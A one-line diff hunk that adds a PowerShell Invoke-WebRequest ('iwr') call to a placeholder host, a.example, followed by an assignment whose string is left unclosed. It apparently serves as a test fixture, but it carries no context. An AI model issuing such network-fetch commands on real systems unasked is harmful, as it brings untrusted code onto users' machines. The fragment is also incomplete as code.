@@ -1,0 +1,1 @@
+iwr http://a.example/x; $a = 'never clo
